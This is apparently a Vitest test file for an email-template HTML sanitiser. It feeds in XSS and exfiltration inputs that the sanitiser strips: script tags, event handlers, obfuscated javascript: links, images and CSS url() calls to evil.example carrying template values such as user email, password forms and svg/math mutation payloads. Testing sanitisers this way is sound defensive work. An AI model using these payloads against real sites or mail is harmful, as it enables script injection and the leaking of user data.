import { expect, test } from "vitest";
import { defaultHtml } from "./default-template.ts";
import { sanitiseHtml } from "./sanitise-html.ts";

test("our own words pass as they are", () => {
  expect(sanitiseHtml(defaultHtml)).toEqual({ html: defaultHtml, leftOut: [] });
});

test("what a mail may hold is kept", () => {
  const html =
    '<table role="presentation"><tbody><tr><td style="color:#333;padding:4px 8px"><img src="https://acme.example/logo.png" alt="Acme" width="40" /></td></tr></tbody></table><p class="quiet"><a href="mailto:{{support}}">{{support}}</a> <a href="https://acme.example/?u={{user.userName}}">us</a></p>';
  expect(sanitiseHtml(html)).toEqual({ html, leftOut: [] });
});

test.each([
  ["<script>alert(1)</script>x", "x", "<script>"],
  ['<p onclick="alert(1)">x</p>', "<p>x</p>", "onclick of <p>"],
  [
    '<img src="https://a.example/x" onerror=alert(1)>',
    '<img src="https://a.example/x" />',
    "onerror of <img>",
  ],
  ['<a href="javascript:alert(1)">x</a>', "<a>x</a>", "the link to javascript:alert(1)"],
  ['<a href="java\tscript:alert(1)">x</a>', "<a>x</a>", "the link to java\tscript:alert(1)"],
  ['<a href="&#106;avascript:alert(1)">x</a>', "<a>x</a>", "the link to javascript:alert(1)"],
  ['<a href="http://acme.example">x</a>', "<a>x</a>", "the link to http://acme.example"],
  ['<a href="//evil.example">x</a>', "<a>x</a>", "the link to //evil.example"],
  ['<a href="{{user.displayName}}">x</a>', "<a>x</a>", "the link to {{user.displayName}}"],
  [
    '<a href="https://evil.example/?{{invitation.link}}">x</a>',
    "<a>x</a>",
    "the link to https://evil.example/?{{invitation.link}}",
  ],
  [
    '<img src="https://evil.example/{{user.email}}">',
    "<img />",
    "the picture https://evil.example/{{user.email}}",
  ],
  ['<img src="data:image/svg+xml,x">', "<img />", "the picture data:image/svg+xml,x"],
  ['<form action="https://evil.example"><input name="password">x</form>', "x", "<form>"],
  ["<style>@import url(https://evil.example)</style>x", "x", "<style>"],
  ['<link rel="stylesheet" href="https://evil.example">x', "x", "<link>"],
  [
    '<p style="background:url(https://evil.example)">x</p>',
    "<p>x</p>",
    "the style background:url(https://evil.example)",
  ],
  [
    '<p style="background:u\\72l(https://evil.example)">x</p>',
    "<p>x</p>",
    "the style background:u\\72l(https://evil.example)",
  ],
  [
    '<p style="background:red\nurl(//evil.example/x)">x</p>',
    "<p>x</p>",
    "the style background:red\nurl(//evil.example/x)",
  ],
  ['<p style="position:fixed;color:red">x</p>', '<p style="color:red">x</p>', "the style position:fixed"],
  ['<p style="color:{{support}}">x</p>', "<p>x</p>", "the style color:{{support}}"],
  ['<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "", "<svg>"],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>x', "x", "<iframe>"],
  ['<base href="https://evil.example">x', "x", "<base>"],
  ["<p><b title=\"a\"onmouseover='alert(1)'>x</b></p>", '<p><b title="a">x</b></p>', "onmouseover of <b>"],
  ["<!--[if mso]><script>alert(1)</script><![endif]-->x", "x", null],
  ["<math><mtext><img src=x onerror=alert(1)></mtext></math>x", "x", "<math>"],
])("%s comes out as %s", (source, html, leftOut) => {
  const result = sanitiseHtml(source);
  expect(result.html).toBe(html);
  if (leftOut === null) expect(result.leftOut).toEqual([]);
  else expect(result.leftOut).toContain(leftOut);
});

test("a designer's whole page loses its frame without a word", () => {
  const page =
    "<!doctype html><html><head><title>x</title><meta charset=utf-8></head><body><p>y</p></body></html>";
  expect(sanitiseHtml(page)).toEqual({ html: "<p>y</p>", leftOut: [] });
});
